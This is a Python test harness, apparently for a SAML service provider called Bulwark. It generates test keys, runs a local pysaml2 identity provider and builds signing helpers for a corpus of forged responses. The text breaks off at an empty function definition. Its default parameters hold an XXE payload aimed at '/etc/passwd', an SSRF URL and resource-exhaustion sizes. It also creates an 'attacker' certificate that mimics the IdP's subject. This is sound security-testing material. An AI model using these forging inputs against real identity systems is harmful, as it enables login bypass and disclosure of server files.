#!/usr/bin/env python3
"""SAML 2.0 test peer for Bulwark's SAML service-provider (SP) tests.

One script, four subcommands (see README.md beside this file):

  keys      --out DIR
            Writes PEM test keys/certs: idp, idp2 (rollover), attacker (same subject as idp),
            idp-ec (P-256) and sp (an SP signing/encryption pair). Self-signed, 10 years.

  idp       --port P --entity-id URL --key F --cert F --sp-metadata FILE|URL --users users.json
            [--sign response|assertion|both] [--digest sha256|sha1] [--encrypt]
            [--enc-alg aes256-gcm|aes128-gcm|aes256-cbc|aes128-cbc|tripledes-cbc]
            A real pysaml2 identity provider (saml2.server.Server, signing through the xmlsec1
            binary) served by http.server on 127.0.0.1:P (P=0 picks a free port). Prints
            `ready <base-url>` once listening; exits on SIGTERM or when stdin closes.

  forge     --case NAME --params params.json [--xml]  |  --list [--json]
            Prints one base64 SAMLResponse (as the HTTP-POST binding carries it) from an attack
            corpus built with signxml + lxml only (independent of pysaml2 and of Bulwark's code).

  selfcheck [--idp]
            Proves the fixtures are well formed: generates keys in a temp dir, forges every case,
            checks each with a deliberately naive verifier (which element does the signature
            really cover? which NameID would a sloppy SP read?), with signxml's strict verifier
            and with pysaml2's SP. With --idp also runs the IdP end to end (redirect -> login ->
            auto-post) and validates the result with pysaml2's SP.

Everything is deterministic given the inputs except random IDs, random session keys and the
current time (forge accepts a `now` param to pin the clock). Only 127.0.0.1 is ever contacted.
"""

import argparse
import base64
import copy
import datetime as dt
import hashlib
import html
import json
import logging
import os
import re
import secrets
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import urllib.parse
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from cryptography import x509
from cryptography.exceptions import InvalidSignature as CryptoInvalidSignature
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa, utils as asym_utils
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.x509.oid import NameOID
from lxml import etree

log = logging.getLogger("saml_peer")

# --------------------------------------------------------------------------------------------
# Namespaces, URIs
# --------------------------------------------------------------------------------------------

NS_SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
NS_SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"
NS_XENC = "http://www.w3.org/2001/04/xmlenc#"
NS_XENC11 = "http://www.w3.org/2009/xmlenc11#"
NS_MD = "urn:oasis:names:tc:SAML:2.0:metadata"
NSMAP = {"samlp": NS_SAMLP, "saml": NS_SAML, "ds": NS_DS, "xenc": NS_XENC, "md": NS_MD}

NAMEID_EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
ATTRNAME_BASIC = "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"
CM_BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
AC_PASSWORD_PROTECTED = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"

C14N_EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"
C14N_EXC_COMMENTS = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"
TRANSFORM_XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
SIG_RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
SIG_RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
SIG_ECDSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
DIGEST_SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
DIGEST_SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"

# XML Encryption algorithms: name -> (URI, key bytes, mode)
ENC_ALGS = {
    "aes128-cbc": ("http://www.w3.org/2001/04/xmlenc#aes128-cbc", 16, "cbc"),
    "aes256-cbc": ("http://www.w3.org/2001/04/xmlenc#aes256-cbc", 32, "cbc"),
    "aes128-gcm": ("http://www.w3.org/2009/xmlenc11#aes128-gcm", 16, "gcm"),
    "aes256-gcm": ("http://www.w3.org/2009/xmlenc11#aes256-gcm", 32, "gcm"),
    "tripledes-cbc": ("http://www.w3.org/2001/04/xmlenc#tripledes-cbc", 24, "3des"),
}
# xmlsec1 --session-key names for the same algorithms (used by the pysaml2 IdP)
XMLSEC_SESSION_KEYS = {
    "aes128-cbc": "aes-128",
    "aes256-cbc": "aes-256",
    "aes128-gcm": "aes-128",
    "aes256-gcm": "aes-256",
    "tripledes-cbc": "des-192",
}
KT_RSA_OAEP_MGF1P = "http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"
KT_RSA_OAEP = "http://www.w3.org/2009/xmlenc11#rsa-oaep"
KT_RSA_1_5 = "http://www.w3.org/2001/04/xmlenc#rsa-1_5"  # PKCS#1 v1.5: for refusal tests only
MGF1_SHA256 = "http://www.w3.org/2009/xmlenc11#mgf1sha256"


def q(ns_prefix, local):
    """Clark notation: q('saml', 'NameID') -> '{urn:...:assertion}NameID'."""
    return "{%s}%s" % (NSMAP[ns_prefix], local)


def new_id(prefix="_"):
    """A fresh SAML ID (an NCName: must not start with a digit)."""
    return prefix + secrets.token_hex(20)


def iso(t):
    return t.astimezone(dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def utcnow():
    return dt.datetime.now(dt.timezone.utc).replace(microsecond=0)


# --------------------------------------------------------------------------------------------
# Keys and certificates
# --------------------------------------------------------------------------------------------


def read_pem(value):
    """A param that is either PEM text or a path to a PEM file -> bytes."""
    if isinstance(value, bytes):
        return value
    if value.lstrip().startswith("-----BEGIN"):
        return value.encode()
    with open(value, "rb") as f:
        return f.read()


def load_key(value):
    return serialization.load_pem_private_key(read_pem(value), password=None)


def load_cert(value):
    return x509.load_pem_x509_certificate(read_pem(value))


def cert_b64(cert):
    """Base64 DER of a certificate, as it goes into ds:X509Certificate."""
    return base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()


def self_signed(key, common_name, days=3650):
    name = x509.Name(
        [
            x509.NameAttribute(NameOID.COMMON_NAME, common_name),
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Bulwark tests"),
        ]
    )
    start = utcnow() - dt.timedelta(days=1)
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(start + dt.timedelta(days=days))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )


def write_pair(out, stem, key, cert):
    key_pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    with open(os.path.join(out, stem + ".key"), "wb") as f:
        f.write(key_pem)
    os.chmod(os.path.join(out, stem + ".key"), 0o600)
    with open(os.path.join(out, stem + ".crt"), "wb") as f:
        f.write(cert.public_bytes(serialization.Encoding.PEM))


def cmd_keys(args):
    os.makedirs(args.out, exist_ok=True)
    specs = [
        ("idp", "rsa", "Bulwark Test IdP"),
        ("idp2", "rsa", "Bulwark Test IdP (rollover)"),
        # Same subject as the real IdP on purpose: a verifier matching certs by name is fooled.
        ("attacker", "rsa", "Bulwark Test IdP"),
        ("idp-ec", "ec", "Bulwark Test IdP (EC)"),
        ("sp", "rsa", "Bulwark Test SP"),
    ]
    for stem, kind, cn in specs:
        if kind == "rsa":
            key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        else:
            key = ec.generate_private_key(ec.SECP256R1())
        write_pair(args.out, stem, key, self_signed(key, cn))
        print(os.path.join(args.out, stem + ".key"))
        print(os.path.join(args.out, stem + ".crt"))


# --------------------------------------------------------------------------------------------
# IdP (pysaml2)
# --------------------------------------------------------------------------------------------

LOGIN_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Test IdP sign-in</title></head>
<body>
<h1>Test IdP sign-in for {sp}</h1>
<form method="post" action="/login">
<input type="hidden" name="key" value="{key}"/>
<select name="user">{options}</select>
<button type="submit">Sign in</button>
</form>
</body></html>
"""

AUTOPOST_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>SAML HTTP-POST binding</title></head>
<body onload="document.forms[0].submit()">
<form method="post" action="{action}">
<input type="hidden" name="SAMLResponse" value="{response}"/>
{relay}<noscript><button type="submit">Continue</button></noscript>
</form>
</body></html>
"""


def autopost_html(action, saml_response_b64, relay_state):
    relay = ""
    if relay_state is not None:
        relay = '<input type="hidden" name="RelayState" value="%s"/>\n' % html.escape(relay_state, quote=True)
    return AUTOPOST_PAGE.format(
        action=html.escape(action, quote=True),
        response=html.escape(saml_response_b64, quote=True),
        relay=relay,
    )


ENCRYPT_PATCH_LOCK = threading.Lock()


class IdpError(Exception):
    def __init__(self, status, message):
        super().__init__(message)
        self.status = status


class Idp:
    """pysaml2 Server configured in code; the SP metadata is re-read whenever it changes, so a
    test may start the IdP first and write Bulwark's SP metadata afterwards."""

    def __init__(self, args, base_url):
        self.args = args
        self.base_url = base_url
        self.entity_id = args.entity_id
        self.sso_url = base_url + "/sso/redirect"
        with open(args.users) as f:
            self.users = {u["id"]: u for u in json.load(f)}
        self.xmlsec = shutil.which("xmlsec1")
        if not self.xmlsec:
            raise SystemExit("xmlsec1 not found (apt-get install xmlsec1)")
        self.tmp = tempfile.mkdtemp(prefix="saml-peer-idp-")
        self.lock = threading.Lock()
        self.pending = {}  # key -> dict describing an AuthnRequest waiting for POST /login
        self._server = None
        self._sp_md_bytes = None
        self._md_hash = None
        self._metadata_xml = None

    # -- pysaml2 plumbing ------------------------------------------------------------------

    def _config(self, sp_md_path):
        from saml2 import BINDING_HTTP_REDIRECT
        from saml2.attribute_converter import AttributeConverter
        from saml2.config import Config
        from saml2.saml import NAME_FORMAT_BASIC, NAMEID_FORMAT_EMAILADDRESS

        sign = self.args.sign
        conf = {
            "entityid": self.entity_id,
            "key_file": self.args.key,
            "cert_file": self.args.cert,
            "xmlsec_binary": self.xmlsec,
            "metadata": {"local": [sp_md_path]} if sp_md_path else {},
            "accepted_time_diff": 60,
            "delete_tmpfiles": True,
            "service": {
                "idp": {
                    "name": "Bulwark test IdP",
                    "endpoints": {"single_sign_on_service": [(self.sso_url, BINDING_HTTP_REDIRECT)]},
                    "name_id_format": [NAMEID_FORMAT_EMAILADDRESS],
                    "want_authn_requests_signed": False,  # redirect signatures are checked by us
                    "sign_response": sign in ("response", "both"),
                    "sign_assertion": sign in ("assertion", "both"),
                    "policy": {
                        "default": {
                            "lifetime": {"minutes": 5},
                            "attribute_restrictions": None,
                            "name_form": NAME_FORMAT_BASIC,
                        }
                    },
                }
            },
        }
        cfg = Config()
        cfg.load(conf)
        # Attributes go out under their users.json names (email, name, groups, ...) with
        # NameFormat basic, instead of being mapped to urn:oid names by pysaml2's default maps.
        names = sorted({k for u in self.users.values() for k in u if k not in ("id", "authn_context")})
        ident = {n: n for n in names}
        conv = AttributeConverter(NAME_FORMAT_BASIC)
        conv.from_dict({"identifier": NAME_FORMAT_BASIC, "fro": ident, "to": ident})
        cfg.attribute_converters = [conv]
        return cfg

    def _load_sp_metadata(self):
        src = self.args.sp_metadata
        if src.startswith("http://") or src.startswith("https://"):
            with urllib.request.urlopen(src, timeout=10) as r:
                return r.read()
        if not os.path.exists(src):
            return None
        with open(src, "rb") as f:
            return f.read()

    def server(self, need_sp=True):
        """The pysaml2 Server, rebuilt when the SP metadata content changed."""
        from saml2.server import Server

        data = self._load_sp_metadata()
        if data is None and need_sp:
            raise IdpError(503, "SP metadata not available yet: %s" % self.args.sp_metadata)
        digest = hashlib.sha256(data or b"").hexdigest()
        with self.lock:
            if self._server is None or digest != self._md_hash:
                path = None
                if data is not None:
                    path = os.path.join(self.tmp, "sp-metadata-%s.xml" % digest[:16])
                    with open(path, "wb") as f:
                        f.write(data)
                self._server = Server(config=self._config(path))
                self._md_hash = digest
                self._sp_md_bytes = data
                log.info("pysaml2 server (re)built; SP metadata sha256 %s", digest[:16])
            return self._server

    def metadata_xml(self):
        if self._metadata_xml is None:
            from saml2.metadata import entity_descriptor

            srv = self.server(need_sp=False)
            self._metadata_xml = str(entity_descriptor(srv.config))
        return self._metadata_xml

    def _sp_wants_signed_requests(self, sp_entity_id):
        root = etree.fromstring(self._sp_md_bytes, etree.XMLParser(resolve_entities=False, no_network=True))
        for ed in root.iter("{%s}EntityDescriptor" % NS_MD):
            if ed.get("entityID") == sp_entity_id:
                d = ed.find("{%s}SPSSODescriptor" % NS_MD)
                return d is not None and d.get("AuthnRequestsSigned") in ("true", "1")
        return False

    def sp_cert(self, srv, sp_entity_id, use):
        certs = srv.metadata.certs(sp_entity_id, "spsso", use)
        return [c for _, c in certs]

    # -- HTTP-Redirect binding: AuthnRequest --------------------------------------------

    def _verify_redirect_signature(self, srv, raw_query, sp_entity_id):
        """Checks SigAlg/Signature over the query string octets as received (SAML bindings
        3.4.4.1: SAMLRequest=..&RelayState=..&SigAlg=.. in that order, original encoding)."""
        raw = {}
        for part in raw_query.split("&"):
            k, _, v = part.partition("=")
            raw.setdefault(urllib.parse.unquote_plus(k), part)
        signed = "&".join(raw[k] for k in ("SAMLRequest", "RelayState", "SigAlg") if k in raw).encode()
        sig_alg = urllib.parse.unquote_plus(raw["SigAlg"].partition("=")[2])
        signature = base64.b64decode(urllib.parse.unquote_plus(raw["Signature"].partition("=")[2]))
        certs = self.sp_cert(srv, sp_entity_id, "signing")
        if not certs:
            log.warning("signed AuthnRequest but the SP metadata has no signing cert; not verified")
            return
        algs = {
            SIG_RSA_SHA256: hashes.SHA256(),
            "http://www.w3.org/2001/04/xmldsig-more#rsa-sha512": hashes.SHA512(),
            SIG_RSA_SHA1: hashes.SHA1(),
            SIG_ECDSA_SHA256: hashes.SHA256(),
        }
        if sig_alg not in algs:
            raise IdpError(400, "unsupported SigAlg %s" % sig_alg)
        for c in certs:
            pub = x509.load_der_x509_certificate(base64.b64decode("".join(c.split()))).public_key()
            try:
                if isinstance(pub, rsa.RSAPublicKey):
                    pub.verify(signature, signed, padding.PKCS1v15(), algs[sig_alg])
                else:
                    pub.verify(signature, signed, ec.ECDSA(algs[sig_alg]))
                log.info("AuthnRequest redirect signature OK (%s)", sig_alg)
                return
            except (CryptoInvalidSignature, ValueError, TypeError):
                continue
        raise IdpError(400, "AuthnRequest redirect signature does not verify")

    def handle_sso_redirect(self, raw_query):
        from saml2 import BINDING_HTTP_POST, BINDING_HTTP_REDIRECT

        params = urllib.parse.parse_qs(raw_query, keep_blank_values=True)
        if "SAMLRequest" not in params:
            raise IdpError(400, "missing SAMLRequest")
        saml_request = params["SAMLRequest"][0]
        relay_state = params["RelayState"][0] if "RelayState" in params else None
        srv = self.server()
        try:
            req = srv.parse_authn_request(saml_request, BINDING_HTTP_REDIRECT)
        except Exception as e:  # pysaml2 raises many types
            raise IdpError(400, "bad AuthnRequest: %s: %s" % (type(e).__name__, e))
        if req is None:
            raise IdpError(400, "bad AuthnRequest")
        msg = req.message
        sp_entity_id = msg.issuer.text.strip() if msg.issuer is not None else None
        if not sp_entity_id or sp_entity_id not in srv.metadata.keys():
            raise IdpError(400, "unknown SP issuer %r" % sp_entity_id)
        if "Signature" in params:
            self._verify_redirect_signature(srv, raw_query, sp_entity_id)
        elif self._sp_wants_signed_requests(sp_entity_id):
            raise IdpError(400, "SP metadata says AuthnRequestsSigned=true but the request is unsigned")
        try:
            rargs = srv.response_args(msg, [BINDING_HTTP_POST])
        except Exception as e:
            raise IdpError(400, "no usable ACS for %s: %s" % (sp_entity_id, e))
        key = secrets.token_urlsafe(16)
        with self.lock:
            self.pending[key] = {
                "in_response_to": msg.id,
                "sp_entity_id": sp_entity_id,
                "acs": rargs["destination"],
                "relay_state": relay_state,
            }
        log.info("AuthnRequest %s from %s -> ACS %s (key %s)", msg.id, sp_entity_id, rargs["destination"], key)
        return key, sp_entity_id

    # -- Responses -----------------------------------------------------------------------

    def make_response(self, user_id, sp_entity_id, acs, in_response_to):
        from saml2 import sigver
        from saml2.saml import NAMEID_FORMAT_EMAILADDRESS, NameID
        from saml2.xmldsig import DIGEST_SHA1 as P_DIGEST_SHA1, DIGEST_SHA256 as P_DIGEST_SHA256
        from saml2.xmldsig import SIG_RSA_SHA1 as P_SIG_RSA_SHA1, SIG_RSA_SHA256 as P_SIG_RSA_SHA256

        user = self.users.get(user_id)
        if user is None:
            raise IdpError(403, "unknown user %r" % user_id)
        srv = self.server()
        identity = {}
        for k, v in user.items():
            if k in ("id", "authn_context"):
                continue
            identity[k] = v if isinstance(v, list) else [v]
        name_id = NameID(format=NAMEID_FORMAT_EMAILADDRESS, text=user["email"])
        authn = {
            "class_ref": user.get("authn_context", AC_PASSWORD_PROTECTED),
            "authn_auth": self.entity_id,
        }
        if self.args.digest == "sha1":
            sign_alg, digest_alg = P_SIG_RSA_SHA1, P_DIGEST_SHA1
        else:
            sign_alg, digest_alg = P_SIG_RSA_SHA256, P_DIGEST_SHA256
        kwargs = dict(
            identity=identity,
            in_response_to=in_response_to,
            destination=acs,
            sp_entity_id=sp_entity_id,
            name_id=name_id,
            authn=authn,
            sign_response=self.args.sign in ("response", "both"),
            sign_assertion=self.args.sign in ("assertion", "both"),
            sign_alg=sign_alg,
            digest_alg=digest_alg,
        )
        if self.args.encrypt:
            certs = self.sp_cert(srv, sp_entity_id, "encryption")
            if not certs:
                raise IdpError(500, "--encrypt but the SP metadata has no encryption certificate")
            kwargs.update(
                encrypt_assertion=True, encrypt_assertion_self_contained=True, encrypt_cert_assertion=certs[0]
            )
            enc = self.args.enc_alg
            # pysaml2 hard-codes 3DES for the content key; swap in the requested algorithm.
            orig_part, orig_encrypt = sigver.pre_encryption_part, srv.sec.encrypt_assertion
            import saml2.entity as entity_mod

            with ENCRYPT_PATCH_LOCK:  # the patch is process-wide; one encrypting request at a time
                entity_mod.pre_encryption_part = lambda **kw: orig_part(msg_enc=ENC_ALGS[enc][0], **kw)
                srv.sec.encrypt_assertion = lambda *a, **kw: orig_encrypt(
                    *a, key_type=XMLSEC_SESSION_KEYS[enc], **kw
                )
                try:
                    resp = srv.create_authn_response(**kwargs)
                finally:
                    entity_mod.pre_encryption_part = orig_part
                    srv.sec.encrypt_assertion = orig_encrypt
        else:
            resp = srv.create_authn_response(**kwargs)
        xml = str(resp)
        return base64.b64encode(xml.encode()).decode()

    def handle_login(self, form):
        key = form.get("key", [""])[0]
        user_id = form.get("user", [""])[0]
        if user_id not in self.users:
            raise IdpError(403, "unknown user %r" % user_id)
        with self.lock:
            pend = self.pending.pop(key, None)
        if pend is None:
            raise IdpError(400, "unknown or already used login key")
        b64 = self.make_response(user_id, pend["sp_entity_id"], pend["acs"], pend["in_response_to"])
        log.info("Response for %s in reply to %s -> %s", user_id, pend["in_response_to"], pend["acs"])
        return pend["acs"], b64, pend["relay_state"]

    def handle_idp_initiated(self, form):
        srv = self.server()
        user_id = form.get("user", [""])[0]
        sp_entity_id = form.get("sp", [None])[0]
        if sp_entity_id is None:
            sps = list(srv.metadata.keys())
            if len(sps) != 1:
                raise IdpError(400, "give sp=<entity id>; metadata holds %d entities" % len(sps))
            sp_entity_id = sps[0]
        acs = form.get("acs", [None])[0]
        if not acs:
            from saml2 import BINDING_HTTP_POST

            srvs = srv.metadata.assertion_consumer_service(sp_entity_id, BINDING_HTTP_POST)
            if not srvs:
                raise IdpError(400, "no HTTP-POST ACS in SP metadata")
            acs = srvs[0]["location"]
        relay = form.get("RelayState", [None])[0]
        b64 = self.make_response(user_id, sp_entity_id, acs, None)
        log.info("unsolicited Response for %s -> %s", user_id, acs)
        return acs, b64, relay


def make_handler(idp):
    class Handler(BaseHTTPRequestHandler):
        server_version = "bulwark-saml-peer"

        def log_message(self, fmt, *a):
            log.info("%s %s", self.address_string(), fmt % a)

        def _send(self, status, body, ctype="text/html; charset=utf-8", headers=()):
            data = body.encode() if isinstance(body, str) else body
            self.send_response(status)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(data)))
            self.send_header("Cache-Control", "no-store")
            for k, v in headers:
                self.send_header(k, v)
            self.end_headers()
            self.wfile.write(data)

        def _form(self):
            n = int(self.headers.get("Content-Length") or 0)
            return urllib.parse.parse_qs(self.rfile.read(n).decode(), keep_blank_values=True)

        def _autopost(self, acs, b64, relay):
            if "application/json" in (self.headers.get("Accept") or ""):
                body = json.dumps({"action": acs, "SAMLResponse": b64, "RelayState": relay})
                self._send(200, body, "application/json")
            else:
                self._send(200, autopost_html(acs, b64, relay))

        def _guard(self, fn):
            try:
                fn()
            except IdpError as e:
                log.warning("%d %s", e.status, e)
                self._send(e.status, str(e) + "\n", "text/plain; charset=utf-8")
            except Exception as e:  # keep serving; the test sees a 500
                log.exception("internal error")
                self._send(500, "%s: %s\n" % (type(e).__name__, e), "text/plain; charset=utf-8")

        def do_GET(self):
            url = urllib.parse.urlsplit(self.path)

            def run():
                if url.path == "/metadata":
                    self._send(200, idp.metadata_xml(), "application/samlmetadata+xml")
                elif url.path == "/sso/redirect":
                    key, sp = idp.handle_sso_redirect(url.query)
                    options = "".join(
                        '<option value="%s">%s</option>' % (html.escape(u), html.escape(u)) for u in idp.users
                    )
                    page = LOGIN_PAGE.format(sp=html.escape(sp), key=html.escape(key), options=options)
                    self._send(200, page, headers=[("X-Saml-Peer-Key", key)])
                else:
                    self._send(404, "not found\n", "text/plain")

            self._guard(run)

        def do_POST(self):
            url = urllib.parse.urlsplit(self.path)

            def run():
                if url.path == "/login":
                    self._autopost(*idp.handle_login(self._form()))
                elif url.path == "/_test/idp-initiated":
                    self._autopost(*idp.handle_idp_initiated(self._form()))
                else:
                    self._send(404, "not found\n", "text/plain")

            self._guard(run)

    return Handler


def cmd_idp(args):
    logging.basicConfig(level=logging.INFO, stream=sys.stderr, format="saml-idp: %(message)s")
    httpd = ThreadingHTTPServer(("127.0.0.1", args.port), BaseHTTPRequestHandler)
    base_url = "http://127.0.0.1:%d" % httpd.server_address[1]
    idp = Idp(args, base_url)
    httpd.RequestHandlerClass = make_handler(idp)
    idp.metadata_xml()  # fail fast on a bad key/cert
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())

    def watch_stdin():
        # os.read, not sys.stdin: a daemon thread blocked in a buffered read aborts the
        # interpreter at exit ("could not acquire lock for <stdin>").
        try:
            while os.read(0, 4096):
                pass
        except OSError:
            pass
        stop.set()

    threading.Thread(target=watch_stdin, daemon=True).start()
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    print("ready " + base_url, flush=True)
    stop.wait()
    httpd.shutdown()
    shutil.rmtree(idp.tmp, ignore_errors=True)
    log.info("stopped")
    sys.stdout.flush()
    sys.stderr.flush()
    os._exit(0)  # skip interpreter teardown with the stdin thread still blocked


# --------------------------------------------------------------------------------------------
# forge: building blocks
# --------------------------------------------------------------------------------------------


class Params(dict):
    """forge params with defaults; keys/certs are PEM text or file paths."""

    DEFAULTS = {
        "idp_entity_id": "http://127.0.0.1:9998/idp",
        "sp_entity_id": "http://127.0.0.1:9999/sso/saml/test/metadata",
        "acs_url": "http://127.0.0.1:9999/sso/saml/test/acs",
        "in_response_to": None,
        "name_id": "alice@acme.example",
        "victim_name_id": "admin@acme.example",
        "attributes": {"email": "alice@acme.example", "name": "Alice", "groups": ["users"]},
        "victim_attributes": None,  # extra overrides for the evil copy, e.g. {"groups": ["admins"]}
        "email_attribute": "email",  # attribute rewritten to victim_name_id in evil copies
        "authn_context": AC_PASSWORD_PROTECTED,
        "not_before_skew": 60,  # the SP's allowed clock skew, seconds
        "lifetime": 300,  # NotOnOrAfter = now + lifetime
        "now": None,  # pin the clock: epoch seconds or ISO-8601
        "assertion_id": None,
        "response_id": None,
        "destination": None,  # default acs_url
        "recipient": None,  # default acs_url
        "sign": None,  # override where simple cases sign: assertion|response|both
        "comment_suffix": ".evil.example",
        "enc_alg": "aes256-gcm",
        "key_transport": "rsa-oaep-mgf1p",  # or rsa-oaep (xmlenc11, SHA-256 + MGF1-SHA256), or rsa-1_5
        "xxe_uri": "file:///etc/passwd",
        "ssrf_url": "http://127.0.0.1:9/bulwark-saml-dtd",
        "nesting_depth": 100000,
        "oversized_bytes": 1200000,
    }

    def __init__(self, d):
        super().__init__(self.DEFAULTS)
        self.update({k: v for k, v in d.items()})
        for req in ("idp_key", "idp_cert"):
            if not self.get(req):
                raise SystemExit("forge params need %s" % req)

    def __missing__(self, key):
        raise SystemExit("this forge case needs param %r" % key)

    def now(self):
        v = self.get("now")
        if v is None:
            return utcnow()
        if isinstance(v, (int, float)):
            return dt.datetime.fromtimestamp(v, dt.timezone.utc).replace(microsecond=0)
        return dt.datetime.fromisoformat(v.replace("Z", "+00:00")).astimezone(dt.timezone.utc)


def sub(parent, tag, text=None, **attrs):
    el = etree.SubElement(parent, tag, {k: v for k, v in attrs.items() if v is not None})
    if text is not None:
        el.text = text
    return el


def build_assertion(p, *, now=None, assertion_id=None, name_id=None, attributes=None, audience=None,
                    recipient=None, in_response_to="<default>", not_before=None, not_on_or_after=None,
                    sc_not_on_or_after=None, issuer=None):
    """A saml:Assertion element with the usual web-SSO content."""
    now = now or p.now()
    skew_free_end = now + dt.timedelta(seconds=int(p["lifetime"]))
    irt = p["in_response_to"] if in_response_to == "<default>" else in_response_to
    a = etree.Element(q("saml", "Assertion"), nsmap={"saml": NS_SAML})
    a.set("ID", assertion_id or p.get("assertion_id") or new_id())
    a.set("Version", "2.0")
    a.set("IssueInstant", iso(now))
    sub(a, q("saml", "Issuer"), issuer or p["idp_entity_id"])
    subj = sub(a, q("saml", "Subject"))
    sub(subj, q("saml", "NameID"), name_id or p["name_id"], Format=NAMEID_EMAIL)
    sc = sub(subj, q("saml", "SubjectConfirmation"), Method=CM_BEARER)
    sub(
        sc,
        q("saml", "SubjectConfirmationData"),
        InResponseTo=irt,
        NotOnOrAfter=iso(sc_not_on_or_after or not_on_or_after or skew_free_end),
        Recipient=recipient or p.get("recipient") or p["acs_url"],
    )
    cond = sub(
        a,
        q("saml", "Conditions"),
        NotBefore=iso(not_before or now),
        NotOnOrAfter=iso(not_on_or_after or skew_free_end),
    )
    ar = sub(cond, q("saml", "AudienceRestriction"))
    sub(ar, q("saml", "Audience"), audience or p["sp_entity_id"])
    st = sub(a, q("saml", "AuthnStatement"), AuthnInstant=iso(now), SessionIndex=new_id("_s"))
    ctx = sub(st, q("saml", "AuthnContext"))
    sub(ctx, q("saml", "AuthnContextClassRef"), p["authn_context"])
    attrs = p["attributes"] if attributes is None else attributes
    if attrs:
        ast = sub(a, q("saml", "AttributeStatement"))
        for name, values in attrs.items():
            at = sub(ast, q("saml", "Attribute"), Name=name, NameFormat=ATTRNAME_BASIC)
            for v in values if isinstance(values, list) else [values]:
                sub(at, q("saml", "AttributeValue"), str(v))
    return a


def build_response(p, *, assertions=None, response_id=None, destination=None, in_response_to="<default>",
                   issuer=None, **assertion_kw):
    """samlp:Response (Issuer, Status Success) holding the given assertions (default: one)."""
    now = assertion_kw.get("now") or p.now()
    irt = p["in_response_to"] if in_response_to == "<default>" else in_response_to
    r = etree.Element(q("samlp", "Response"), nsmap={"samlp": NS_SAMLP, "saml": NS_SAML})
    r.set("ID", response_id or p.get("response_id") or new_id())
    r.set("Version", "2.0")
    r.set("IssueInstant", iso(now))
    r.set("Destination", destination or p.get("destination") or p["acs_url"])
    if irt is not None:
        r.set("InResponseTo", irt)
    sub(r, q("saml", "Issuer"), issuer or p["idp_entity_id"])
    status = sub(r, q("samlp", "Status"))
    sub(status, q("samlp", "StatusCode"), Value=STATUS_SUCCESS)
    if assertions is None:
        assertions = [build_assertion(p, in_response_to=irt, **assertion_kw)]
    for a in assertions:
        r.append(a)
    return r


def _xml_signer(sig_alg, digest_alg, c14n):
    from signxml import XMLSigner

    class Signer(XMLSigner):
        # signxml refuses SHA-1 outright; the `sha1` fixture needs it on purpose.
        def check_deprecated_methods(self):
            pass

    s = Signer(signature_algorithm=sig_alg, digest_algorithm=digest_alg, c14n_algorithm=c14n)
    s.namespaces = {"ds": NS_DS}
    return s


def by_id(root, id_):
    found = root.xpath("//*[@ID=$id]", id=id_)
    if len(found) != 1:
        raise ValueError("expected one element with ID %s, found %d" % (id_, len(found)))
    return found[0]


def sign_enveloped(root, target_id, key, cert, *, sig_alg=SIG_RSA_SHA256, digest_alg=DIGEST_SHA256,
                   c14n=C14N_EXC, sig_parent_id=None):
    """Signs the element with ID target_id (enveloped signature, placed right after the Issuer
    of the element with ID sig_parent_id, default the target itself) using signxml.
    Returns a NEW tree (signxml copies); re-find elements by ID afterwards."""
    parent = by_id(root, sig_parent_id or target_id)
    placeholder = etree.Element(q("ds", "Signature"), {"Id": "placeholder"}, nsmap={"ds": NS_DS})
    issuer = parent.find(q("saml", "Issuer"))
    parent.insert(parent.index(issuer) + 1 if issuer is not None else 0, placeholder)
    signer = _xml_signer(sig_alg, digest_alg, c14n)
    cert_pem = load_cert(cert).public_bytes(serialization.Encoding.PEM).decode()
    signed = signer.sign(root, key=load_key(key), cert=cert_pem, reference_uri="#" + target_id, id_attribute="ID")
    return signed


def assertion_of(root):
    return root.find(q("saml", "Assertion"))


def sign_response_tree(p, root, where, *, key=None, cert=None, **kw):
    """Applies the signing layout: 'assertion', 'response', 'both' or 'none'."""
    key = key or p["idp_key"]
    cert = cert or p["idp_cert"]
    if where in ("assertion", "both"):
        for a in list(root.findall(q("saml", "Assertion"))):
            root = sign_enveloped(root, a.get("ID"), key, cert, **kw)
    if where in ("response", "both"):
        root = sign_enveloped(root, root.get("ID"), key, cert, **kw)
    return root


def direct_signature(el):
